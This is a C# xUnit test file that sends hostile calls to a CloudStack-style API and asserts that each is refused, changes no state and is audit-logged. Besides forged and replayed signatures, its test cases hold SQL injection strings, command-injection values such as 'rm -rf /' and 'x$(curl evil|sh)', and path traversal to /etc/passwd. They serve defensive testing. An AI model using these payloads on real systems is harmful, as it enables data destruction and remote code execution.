using System.Globalization;
using System.Net;
using System.Text;
using Agents.Contracts;
using Agents.Contracts.Events;
using Agents.Producers.Tests.Support;
using Agents.ReliabilityTests.Support;
using Newtonsoft.Json.Linq;
using Xunit.Abstractions;

namespace Agents.ReliabilityTests;

/// <summary>
/// Hostile calls to the CloudStack-style API (the real service process): bad, tampered, expired
/// and replayed signatures, oversized and injection-shaped parameters, unknown commands, a user
/// key reaching for another account. Each gets CloudStack's errorcode/errortext, changes nothing
/// (no VM, no job, no command on the bus) and leaves an API.REQUEST.REFUSE record in the audit log.
/// Producers.Tests covers the signature rules one by one; this is the counted list.
/// </summary>
[Collection(ServicesCollection.Name)]
public sealed class HostileApiTests(ServicesRig rig, ITestOutputHelper output)
{
    private const string Router = "r-hostile";

    private sealed record Hostile(string Name, int Expected, Func<Task<(int Status, JObject? Body)>> Send);

    [Fact]
    public async Task hostile_api_calls_get_cloudstack_errors_change_nothing_and_are_in_the_audit_log()
    {
        await rig.Admin.OkAsync("registerVirtualMachine", ("id", "vm-h-alice"), ("routerid", Router), ("account", "alice"));
        await rig.Admin.OkAsync("registerVirtualMachine", ("id", "vm-h-bob"), ("routerid", Router), ("account", "bob"));
        var keys = (await rig.Admin.OkAsync("registerUserKeys", ("account", "alice")))["userkeys"]!;
        var alice = rig.Client(keys.Value<string>("apikey")!, keys.Value<string>("secretkey")!);
        var admin = rig.Admin;
        await using var connection = await rig.Broker.ConnectAsync(name: "hostile-api-tap");
        await using var tap = await connection.CreateChannelAsync();
        var commands = (await tap.QueueDeclareAsync("", durable: false, exclusive: true, autoDelete: true)).QueueName;
        await tap.QueueBindAsync(commands, Topology.CommandsExchange, "#");

        var before = await StateAsync();
        var refusedBefore = await RefusalsAsync();
        var soon = Expires(TimeSpan.FromSeconds(2));
        var replayable = Signed(admin, rig.AdminSecretKey, ("command", "listVirtualMachines"), ("signatureversion", "3"), ("expires", soon));
        Assert.Equal(200, (await RawAsync(replayable)).Item1);
        await Task.Delay(TimeSpan.FromSeconds(3));

        var bigId = new string('v', 100_000);
        var hugeJson = string.Concat(Enumerable.Repeat("{\"a\":", 100_000)) + "1" + new string('}', 100_000);
        var cases = new List<Hostile>
        {
            new("signed with the wrong secret key", 401, () => Call(rig.Client(rig.AdminApiKey, Convert.ToBase64String(new byte[48])), "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router))),
            new("unknown apiKey", 401, () => Call(rig.Client("no-such-key", rig.AdminSecretKey), "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router))),
            new("no signature", 401, () => RawAsync(ApiClient.Query([("command", "registerVirtualMachine"), ("response", "json"), ("apiKey", rig.AdminApiKey), ("id", "vm-h-x"), ("routerid", Router)]))),
            new("parameter changed after signing", 401, () => RawAsync(Tamper(Signed(admin, rig.AdminSecretKey, ("command", "registerVirtualMachine"), ("id", "vm-h-x"), ("routerid", Router)), "id", "vm-h-y"))),
            new("signature of another request", 401, () => RawAsync(Swap(Signed(admin, rig.AdminSecretKey, ("command", "listVirtualMachines")), ("command", "registerVirtualMachine"), ("id", "vm-h-x"), ("routerid", Router)))),
            new("expired request (signatureversion 3)", 401, () => Call(admin, "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router), ("signatureversion", "3"), ("expires", Expires(TimeSpan.FromMinutes(-1))))),
            new("replayed after its expires", 401, () => RawAsync(replayable)),
            new("signatureversion 3 without expires", 401, () => Call(admin, "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router), ("signatureversion", "3"))),
            new("expires that is not a date", 401, () => Call(admin, "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router), ("signatureversion", "3"), ("expires", "'; DROP TABLE jobs; --"))),
            new("unknown command", 432, () => Call(admin, "deployVirtualMachine", ("zoneid", "1"))),
            new("command name with shell metacharacters", 432, () => Call(admin, "listVirtualMachines;rm -rf /")),
            new("SQL quotes in an id", 430, () => Call(admin, "registerVirtualMachine", ("id", "vm' OR '1'='1"), ("routerid", Router))),
            new("SQL in an account name", 430, () => Call(admin, "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router), ("account", "x'); DELETE FROM vms; --"))),
            new("shell metacharacters in a user name", 431, () => Call(admin, "resetPasswordForVirtualMachine", ("id", "vm-h-alice"), ("username", "root;reboot"))),
            new("shell metacharacters in a recipe name", 431, () => Call(admin, "runAgentRecipe", ("virtualmachineid", "vm-h-alice"), ("name", "x$(curl evil|sh)"))),
            new("path traversal in an id", 430, () => Call(admin, "registerVirtualMachine", ("id", "../../etc/passwd"), ("routerid", Router))),
            new("path traversal in a recipe name", 431, () => Call(admin, "runAgentRecipe", ("virtualmachineid", "vm-h-alice"), ("name", "../../bin/sh"))),
            new("NUL byte in an id", 430, () => Call(admin, "registerVirtualMachine", ("id", "vm-h\0x"), ("routerid", Router))),
            new("100 KB id (signed POST)", 430, () => PostAsync(Signed(admin, rig.AdminSecretKey, ("command", "registerVirtualMachine"), ("id", bigId), ("routerid", Router)))),
            new("200 KB of nested JSON as a parameter (signed POST)", 431, () => PostAsync(Signed(admin, rig.AdminSecretKey, ("command", "runAgentRecipe"), ("virtualmachineid", "vm-h-alice"), ("name", hugeJson)))),
            new("script that is not base64", 431, () => Call(admin, "runAgentRecipe", ("virtualmachineid", "vm-h-alice"), ("name", "ok"), ("script", "#!/bin/sh\nrm -rf /"))),
            new("parameter given twice", 430, () => RawAsync(Signed(admin, rig.AdminSecretKey, ("command", "listVirtualMachines")) + "&id=a&id=b")),
            new("pagesize without page", 431, () => Call(admin, "listVirtualMachines", ("pagesize", "10"))),
            new("missing required parameter", 431, () => Call(admin, "resetPasswordForVirtualMachine")),
            new("user key on another account's VM", 531, () => Call(alice, "resetPasswordForVirtualMachine", ("id", "vm-h-bob"))),
            new("user key on its own and another account's VM", 531, () => Call(alice, "runAgentRecipe", ("virtualmachineids", "vm-h-alice,vm-h-bob"), ("name", "hello"))),
            new("user key reading another account's events", 531, () => Call(alice, "listEvents", ("resourceid", "vm-h-bob"))),
            new("user key making itself admin keys", 531, () => Call(alice, "registerUserKeys", ("account", "alice"), ("roletype", "admin"))),
            new("user key calling an admin command", 432, () => Call(alice, "issueCertificate", ("domain", "bank.example.org"))),
            new("user key registering a VM for another account", 531, () => Call(alice, "registerVirtualMachine", ("id", "vm-h-x"), ("routerid", Router), ("account", "bob"))),
        };

        var report = new List<string>();
        var wrong = new List<string>();
        foreach (var c in cases)
        {
            var (status, body) = await c.Send();
            var response = body?.Properties().FirstOrDefault()?.Value as JObject;
            var code = response?.Value<int?>("errorcode");
            var text = response?.Value<string>("errortext") ?? "(no CloudStack body)";
            report.Add($"{c.Name}: HTTP {status}, errorcode {code?.ToString(CultureInfo.InvariantCulture) ?? "-"}: {text[..Math.Min(160, text.Length)]}");
            if (status != c.Expected || code != c.Expected || string.IsNullOrWhiteSpace(text)) wrong.Add($"{c.Name}: expected {c.Expected}, got HTTP {status} errorcode {code}: {text}");
        }

        var refused = 0;
        await BrokerRestartTests.Within(async () => (refused = await RefusalsAsync() - refusedBefore) >= cases.Count, 30);
        var after = await StateAsync();
        var sent = 0;
        while (await tap.BasicGetAsync(commands, autoAck: true) is not null) sent++;
        var sample = (await admin.OkAsync("listEvents", ("type", EventTypes.ApiRequestRefused), ("page", "1"), ("pagesize", "3")))["event"]!
            .Select(e => e.Value<string>("description")).ToList();

        foreach (var line in report) output.WriteLine(line);
        output.WriteLine($"{cases.Count} hostile calls; {cases.Count - wrong.Count} got the expected CloudStack error; VMs {before.Vms} → {after.Vms}, "
            + $"jobs {before.Jobs} → {after.Jobs}, commands on the bus {sent}; {refused} API.REQUEST.REFUSE records in the audit log, e.g.:");
        foreach (var line in sample) output.WriteLine("  " + line);

        Assert.True(wrong.Count == 0, string.Join('\n', wrong));
        Assert.Equal(before, after);
        Assert.Equal(0, sent);
        Assert.Equal(cases.Count, refused);
        Assert.DoesNotContain(rig.Api.Output.Split('\n'), l => l.Contains(rig.AdminSecretKey, StringComparison.Ordinal));
        Assert.False(rig.Api.HasExited);
    }

    private sealed record State(int Vms, int Jobs, string Owners);

    private async Task<State> StateAsync()
    {
        var vms = await rig.Admin.OkAsync("listVirtualMachines");
        var owners = string.Join(',', (vms["virtualmachine"] ?? new JArray()).Select(v => $"{v.Value<string>("id")}:{v.Value<string>("account")}").Order(StringComparer.Ordinal));
        return new State(vms.Value<int>("count"), (await rig.Admin.OkAsync("listAsyncJobs")).Value<int>("count"), owners);
    }

    private async Task<int> RefusalsAsync() =>
        (await rig.Admin.OkAsync("listEvents", ("type", EventTypes.ApiRequestRefused), ("page", "1"), ("pagesize", "1"))).Value<int>("count");

    private static async Task<(int, JObject?)> Call(ApiClient client, string command, params (string, string)[] parameters)
    {
        var (status, body) = await client.CallAsync(command, parameters);
        return ((int)status, body);
    }

    private static string Expires(TimeSpan from) =>
        DateTimeOffset.UtcNow.Add(from).ToString("yyyy-MM-dd'T'HH:mm:ss'+0000'", CultureInfo.InvariantCulture);

    /// <summary>A signed query string, as CloudMonkey sends it.</summary>
    private static string Signed(ApiClient client, string secret, params (string Name, string Value)[] parameters)
    {
        var all = parameters.Append(("response", "json")).Append(("apiKey", client.ApiKey)).ToList();
        return ApiClient.Query(all) + "&signature=" + Uri.EscapeDataString(ApiClient.Sign(all, secret));
    }

    private static string Tamper(string query, string name, string value) =>
        string.Join('&', query.Split('&').Select(p => p.StartsWith(name + "=", StringComparison.Ordinal) ? name + "=" + Uri.EscapeDataString(value) : p));

    /// <summary>The signature of <paramref name="signed"/> on other parameters.</summary>
    private string Swap(string signed, params (string Name, string Value)[] parameters)
    {
        var signature = signed.Split('&').Single(p => p.StartsWith("signature=", StringComparison.Ordinal));
        return ApiClient.Query(parameters.Append(("response", "json")).Append(("apiKey", rig.AdminApiKey))) + "&" + signature;
    }

    private async Task<(int, JObject?)> RawAsync(string query)
    {
        using var response = await rig.Http.GetAsync("/client/api?" + query);
        return ((int)response.StatusCode, Parse(await response.Content.ReadAsStringAsync()));
    }

    private async Task<(int, JObject?)> PostAsync(string query)
    {
        using var form = new StringContent(query, Encoding.UTF8, "application/x-www-form-urlencoded");
        using var response = await rig.Http.PostAsync("/client/api", form);
        return ((int)response.StatusCode, Parse(await response.Content.ReadAsStringAsync()));
    }

    private static JObject? Parse(string text)
    {
        try { return JObject.Parse(text); }
        catch (Newtonsoft.Json.JsonException) { return null; }
    }
}
